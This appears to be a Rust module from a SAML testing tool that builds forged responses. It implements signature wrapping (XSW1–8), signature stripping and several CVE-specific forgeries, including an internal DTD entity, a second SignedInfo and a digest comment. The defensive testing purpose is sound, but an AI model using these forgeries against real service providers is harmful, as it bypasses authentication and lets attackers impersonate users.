//! The attacks on the signature's own structure and on the ID table, and the wrapping
//! permutations that the original set (in [`super`]) does not build: XSW1, 2, 5, 6, 7 and 8 as
//! SAML Raider numbers them (CompassSecurity/SAMLRaider, `XSWHelpers`), signature exclusion, an
//! empty SignatureValue, a signature moved onto another element, IDs declared twice through
//! `xml:id`, nested Responses or an internal DTD (CVE-2025-23369), a second SignedInfo
//! (CVE-2025-29774), a comment in DigestValue (CVE-2025-29775) and samlify's wrapping
//! (CVE-2025-47949).
//!
//! Like the rest of [`super`], each edits the message the IdP signed, as an attacker holding a
//! captured response would; none of them holds the IdP's key. Where an attack needs a digest of
//! the edited assertion, it is computed by signing a copy with the attacker's own key and keeping
//! only the DigestValue (a digest needs no key).

use libxml::tree::{Document, Node, SaveOptions};

use super::{AttackError, SignatureWrapping, child_element, descendants, make_evil};
use crate::dsig::Signed;
use crate::xml::{ASSERTION_NS, DSIG_NS};

/// Applies one of this module's attacks; `response` is the document's root.
pub(super) fn apply(
    doc: &mut Document,
    response: Node,
    attack: SignatureWrapping,
) -> Result<String, AttackError> {
    use SignatureWrapping as W;
    match attack {
        W::ResponseCopyInSignature | W::ResponseCopyBeforeSignature => {
            response_copy_beside_signature(doc, response, attack)?
        }
        W::ResponseSignatureMovedIntoAssertion => {
            response_signature_into_assertion(response, attack)?
        }
        W::IdViaEntity => {
            let signed = signed_assertion(&response, attack)?;
            return id_via_entity(doc, response, signed);
        }
        other => {
            let signed = signed_assertion(&response, other)?;
            match other {
                W::EvilKeepsSignatureOriginalAtEnd
                | W::EvilKeepsSignatureOriginalInSignature
                | W::OriginalInUnqualifiedObject => {
                    evil_keeps_signature(doc, response, signed, other)?
                }
                W::SignatureRemoved => {
                    let mut signature = signature_of(&signed)?;
                    signature.unlink_node();
                    // Unlinked and owned by nothing else: freed when this wrapper drops.
                    signature.set_rust_owned();
                    make_evil(&signed)?;
                }
                W::EmptySignatureValue => descendant(&signed, "SignatureValue")?
                    .set_content("")
                    .map_err(|_| edit("empty ds:SignatureValue"))?,
                W::XmlIdOnResponse => {
                    let mut response = response;
                    response
                        .set_attribute("xml:id", &id_of(&signed))
                        .map_err(|_| edit("set xml:id on the Response"))?;
                }
                W::NestedResponseInExtensions | W::NestedResponseInKeyInfo => {
                    nested_response(doc, response, signed, other)?
                }
                W::SecondSignedInfo | W::DigestValueComment => forged_digest(doc, signed, other)?,
                W::SignedResponseInsideEvil => signed_response_inside_evil(doc, response, signed)?,
                W::EvilInUnqualifiedExtensions => {
                    // SAML Raider's XSW7: `document.createElement("Extensions")`, no namespace,
                    // and the evil copy keeps the signed ID.
                    let mut evil = super::evil_copy(doc, &id_of(&signed), false)?;
                    let mut extensions = Node::new("Extensions", None, doc)
                        .map_err(|_| edit("create the Extensions element"))?;
                    let mut signed = signed;
                    signed
                        .add_prev_sibling(&mut extensions)
                        .map_err(|_| edit("insert the Extensions element"))?;
                    extensions
                        .add_child(&mut evil)
                        .map_err(|_| edit("insert the evil assertion"))?;
                }
                _ => return Err(edit("apply an attack this module does not build")),
            }
        }
    }
    Ok(doc.to_string_with_options(SaveOptions::default()))
}

fn edit(what: &'static str) -> AttackError {
    AttackError::Edit(what)
}

fn signed_assertion(response: &Node, attack: SignatureWrapping) -> Result<Node, AttackError> {
    child_element(response, ASSERTION_NS, "Assertion")
        .filter(|a| child_element(a, DSIG_NS, "Signature").is_some())
        .ok_or(AttackError::NoSignedAssertion(attack))
}

fn signature_of(element: &Node) -> Result<Node, AttackError> {
    child_element(element, DSIG_NS, "Signature").ok_or(edit("find ds:Signature"))
}

fn descendant(element: &Node, name: &'static str) -> Result<Node, AttackError> {
    descendants(element)
        .into_iter()
        .find(|n| n.get_name() == name)
        .ok_or(edit("find a ds: element of the signature"))
}

fn id_of(element: &Node) -> String {
    element.get_attribute_no_ns("ID").unwrap_or_default()
}

fn evil_id(id: &str) -> String {
    format!("_evil{}", id.trim_start_matches('_'))
}

/// A copy, imported into `doc`, of the element that `locate` finds in a duplicate of `doc` (so
/// that the original stays where it is), after `prepare` has edited it there.
fn copy_of(
    doc: &mut Document,
    locate: impl Fn(&Node) -> Option<Node>,
    prepare: impl FnOnce(&mut Node) -> Result<(), AttackError>,
) -> Result<Node, AttackError> {
    let source = doc.dup().map_err(|_| edit("duplicate the document"))?;
    let root = source
        .get_root_element()
        .ok_or(edit("find the copy's root"))?;
    let mut copy = locate(&root).ok_or(edit("find the element to copy"))?;
    prepare(&mut copy)?;
    super::import_and_release(doc, copy).map_err(|_| edit("import the copy"))
}

/// Removes `element`'s own `ds:Signature` child, if any.
fn strip_signature(element: &mut Node) -> Result<(), AttackError> {
    if let Some(mut signature) = child_element(element, DSIG_NS, "Signature") {
        signature.unlink_node();
        signature.set_rust_owned();
    }
    Ok(())
}

fn first_assertion(root: &Node) -> Option<Node> {
    child_element(root, ASSERTION_NS, "Assertion")
}

/// XSW1 and XSW2: the Response becomes the attacker's; an unsigned copy of the original goes
/// into (XSW1) or just before (XSW2) the IdP's signature.
fn response_copy_beside_signature(
    doc: &mut Document,
    mut response: Node,
    attack: SignatureWrapping,
) -> Result<(), AttackError> {
    let mut signature = child_element(&response, DSIG_NS, "Signature")
        .ok_or(AttackError::NoSignedResponse(attack))?;
    let mut original = copy_of(doc, |root| Some(root.clone()), strip_signature)?;
    let id = id_of(&response);
    response
        .set_attribute("ID", &evil_id(&id))
        .map_err(|_| edit("set the evil Response ID"))?;
    make_evil(&response)?;
    if attack == SignatureWrapping::ResponseCopyInSignature {
        signature.add_child(&mut original)
    } else {
        signature
            .add_prev_sibling(&mut original)
            .map_err(|e| e.to_string())
    }
    .map_err(|_| edit("insert the copy of the original Response"))
}

/// The Response's signature moved into its assertion, after the assertion's Issuer.
fn response_signature_into_assertion(
    response: Node,
    attack: SignatureWrapping,
) -> Result<(), AttackError> {
    let mut signature = child_element(&response, DSIG_NS, "Signature")
        .ok_or(AttackError::NoSignedResponse(attack))?;
    let assertion = first_assertion(&response).ok_or(edit("find saml:Assertion"))?;
    let mut issuer = child_element(&assertion, ASSERTION_NS, "Issuer")
        .ok_or(edit("find the assertion's Issuer"))?;
    signature.unlink_node();
    issuer
        .add_next_sibling(&mut signature)
        .map_err(|_| edit("move the Response's signature"))
}

/// XSW5, XSW6 and XSW8: the assertion in place is made the attacker's and keeps the IdP's
/// signature; an unsigned copy of the original goes to the Response's end (5), into the
/// signature (6), or into an unqualified `Object` in the signature (8, which also keeps the
/// signed ID on the evil assertion).
fn evil_keeps_signature(
    doc: &mut Document,
    mut response: Node,
    mut signed: Node,
    attack: SignatureWrapping,
) -> Result<(), AttackError> {
    use SignatureWrapping as W;
    // The copy is taken before the assertion in place becomes the attacker's.
    let mut original = copy_of(doc, first_assertion, strip_signature)?;
    if attack != W::OriginalInUnqualifiedObject {
        let id = id_of(&signed);
        signed
            .set_attribute("ID", &evil_id(&id))
            .map_err(|_| edit("set the evil ID"))?;
    }
    make_evil(&signed)?;
    let mut signature = signature_of(&signed)?;
    match attack {
        W::EvilKeepsSignatureOriginalAtEnd => response.add_child(&mut original),
        W::EvilKeepsSignatureOriginalInSignature => signature.add_child(&mut original),
        _ => {
            // `document.createElement("Object")` in SAML Raider: no namespace.
            let mut object =
                Node::new("Object", None, doc).map_err(|_| edit("create the Object element"))?;
            signature
                .add_child(&mut object)
                .map_err(|_| edit("insert the Object element"))?;
            object.add_child(&mut original)
        }
    }
    .map_err(|_| edit("insert the copy of the original"))
}

/// A bare `samlp:Response` carrying the signed assertion's ID, in a new `samlp:Extensions` or in
/// the assertion signature's `ds:KeyInfo`.
fn nested_response(
    doc: &Document,
    response: Node,
    signed: Node,
    attack: SignatureWrapping,
) -> Result<(), AttackError> {
    let mut nested = Node::new("Response", response.get_namespace(), doc)
        .map_err(|_| edit("create the nested samlp:Response"))?;
    let instant = response
        .get_attribute_no_ns("IssueInstant")
        .unwrap_or_default();
    for (name, value) in [
        ("ID", id_of(&signed)),
        ("Version", "2.0".to_owned()),
        ("IssueInstant", instant),
    ] {
        nested
            .set_attribute(name, &value)
            .map_err(|_| edit("set the nested Response's attributes"))?;
    }
    let mut parent = if attack == SignatureWrapping::NestedResponseInExtensions {
        super::new_extensions(doc, &response)?
    } else {
        descendant(&signed, "KeyInfo")?
    };
    parent
        .add_child(&mut nested)
        .map_err(|_| edit("insert the nested samlp:Response"))
}

/// CVE-2025-29774 and CVE-2025-29775: the assertion made the attacker's, and its digest offered
/// in a second SignedInfo or in a comment inside the DigestValue.
fn forged_digest(
    doc: &mut Document,
    signed: Node,
    attack: SignatureWrapping,
) -> Result<(), AttackError> {
    make_evil(&signed)?;
    let digest = digest_of_first_assertion(doc)?;
    let signature = signature_of(&signed)?;
    let mut signed_info =
        child_element(&signature, DSIG_NS, "SignedInfo").ok_or(edit("find ds:SignedInfo"))?;
    if attack == SignatureWrapping::DigestValueComment {
        let value = descendant(&signed_info, "DigestValue")?;
        let mut comment =
            Node::new_comment(&digest, doc).map_err(|_| edit("create the comment"))?;
        let mut text = value
            .get_first_child()
            .ok_or(edit("find the DigestValue text"))?;
        return text
            .add_prev_sibling(&mut comment)
            .map(drop)
            .map_err(|_| edit("insert the comment"));
    }
    let mut second = copy_of(
        doc,
        |root| {
            let assertion = first_assertion(root)?;
            child_element(
                &child_element(&assertion, DSIG_NS, "Signature")?,
                DSIG_NS,
                "SignedInfo",
            )
        },
        |copy| {
            descendant(copy, "DigestValue")?
                .set_content(&digest)
                .map_err(|_| edit("set the forged DigestValue"))
        },
    )?;
    signed_info
        .add_next_sibling(&mut second)
        .map(drop)
        .map_err(|_| edit("insert the second ds:SignedInfo"))
}

/// The DigestValue an honest signer would compute for the document's (edited) assertion: the
/// attacker signs a serialised copy with its own key and keeps only the digest.
fn digest_of_first_assertion(doc: &Document) -> Result<String, AttackError> {
    let attacker = crate::keys::IdpKeys::fixed_for_tests().attacker;
    let xml = doc.to_string_with_options(SaveOptions::default());
    let resigned = crate::dsig::sign(&xml, &attacker.key_pem, &[Signed::Assertion])
        .map_err(|_| edit("compute the edited assertion's digest"))?;
    let copy = crate::dsig::parse(&resigned).map_err(|_| AttackError::Unparsable)?;
    let root = copy.get_root_element().ok_or(AttackError::Unparsable)?;
    let assertion = first_assertion(&root).ok_or(edit("find the re-signed assertion"))?;
    Ok(descendant(&signature_of(&assertion)?, "DigestValue")?
        .get_content()
        .trim()
        .to_owned())
}

/// CVE-2025-47949 (samlify): the IdP's whole signed Response nested, unchanged, in the
/// attacker's, whose own assertion is unsigned and evil.
fn signed_response_inside_evil(
    doc: &mut Document,
    mut response: Node,
    mut signed: Node,
) -> Result<(), AttackError> {
    let mut original = copy_of(doc, |root| Some(root.clone()), |_| Ok(()))?;
    let response_id = id_of(&response);
    response
        .set_attribute("ID", &evil_id(&response_id))
        .map_err(|_| edit("set the evil Response ID"))?;
    strip_signature(&mut signed)?;
    let id = id_of(&signed);
    signed
        .set_attribute("ID", &evil_id(&id))
        .map_err(|_| edit("set the evil ID"))?;
    make_evil(&signed)?;
    response
        .add_child(&mut original)
        .map(drop)
        .map_err(|_| edit("nest the signed Response"))
}

/// Placeholders set through libxml (which would escape `&`) and replaced by entity references in
/// the serialised text.
const ID_VIA_ENTITY: &str = "__samlconf_idViaEntity__";
const BYPASS_ID_UNIQUENESS: &str = "__samlconf_BypassIDUniqueness__";

/// CVE-2025-23369 in SAML Raider's published shape (`CVE_2025_23369.java`).
fn id_via_entity(
    doc: &mut Document,
    mut response: Node,
    mut signed: Node,
) -> Result<String, AttackError> {
    let id = id_of(&signed);
    // A copy of the assertion's signature, and of the signed assertion itself (signature kept).
    let mut signature = copy_of(
        doc,
        |root| child_element(&first_assertion(root)?, DSIG_NS, "Signature"),
        |_| Ok(()),
    )?;
    let mut inner = copy_of(doc, first_assertion, |_| Ok(()))?;
    let mut object = Node::new("Object", signature.get_namespace(), doc)
        .map_err(|_| edit("create ds:Object"))?;
    signature
        .add_child(&mut object)
        .map_err(|_| edit("insert ds:Object"))?;
    object
        .add_child(&mut inner)
        .map_err(|_| edit("insert the assertion into ds:Object"))?;
    let mut issuer = child_element(&response, ASSERTION_NS, "Issuer")
        .ok_or(edit("find the Response's Issuer"))?;
    issuer
        .add_next_sibling(&mut signature)
        .map_err(|_| edit("insert the signature copy into the Response"))?;
    signed
        .set_attribute("ID", &format!("{id}ffff"))
        .map_err(|_| edit("rename the outer assertion"))?;
    strip_signature(&mut signed)?;
    response
        .set_attribute("ID", ID_VIA_ENTITY)
        .map_err(|_| edit("set the Response ID"))?;
    inner
        .set_attribute("ID", &format!("{BYPASS_ID_UNIQUENESS}{id}"))
        .map_err(|_| edit("set the inner assertion's ID"))?;
    let xml = doc
        .to_string_with_options(SaveOptions::default())
        .replace(&format!(r#"ID="{ID_VIA_ENTITY}""#), r#"ID="&idViaEntity;""#)
        .replace(
            &format!(r#"ID="{BYPASS_ID_UNIQUENESS}"#),
            r#"ID="&BypassIDUniqueness;"#,
        );
    let dtd = format!(
        "<!DOCTYPE response [\n<!ENTITY idViaEntity \"{id}\">\n<!ENTITY BypassIDUniqueness \"&#x50;\">\n]>"
    );
    Ok(match xml.find("?>") {
        Some(end) => format!("{}\n{dtd}{}", &xml[..end + 2], &xml[end + 2..]),
        None => format!("{dtd}\n{xml}"),
    })
}
